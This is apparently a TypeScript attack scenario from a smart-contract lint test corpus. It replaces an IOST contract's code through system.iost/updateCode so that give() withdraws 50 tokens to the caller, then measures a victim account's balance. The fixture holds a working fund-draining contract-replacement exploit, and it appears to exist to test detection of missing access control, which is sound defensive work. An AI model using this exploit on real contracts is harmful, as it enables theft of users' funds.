import type { Attack } from '../../lint-corpus/scene.js'

export const attack: Attack = {
  harm: 'more',
  async prepare(scene) {
    await scene.use('bobby', 'give', '100')
  },
  measure: (scene) => scene.balance('iost', 'julia'),
  async run(scene) {
    const code =
      'class Taken { init() {} give(a) { blockchain.withdraw(tx.publisher, "50", "") } } module.exports = Taken'
    const abi = [{ name: 'give', args: ['string'], amountLimit: [{ token: '*', val: 'unlimited' }] }]
    const info = { lang: 'javascript', version: '1.0.0', abi }
    await scene.attack('system.iost/updateCode', JSON.stringify({ id: scene.id('$subject'), info, code }), '')
    await scene.attack('give', '1')
  },
}
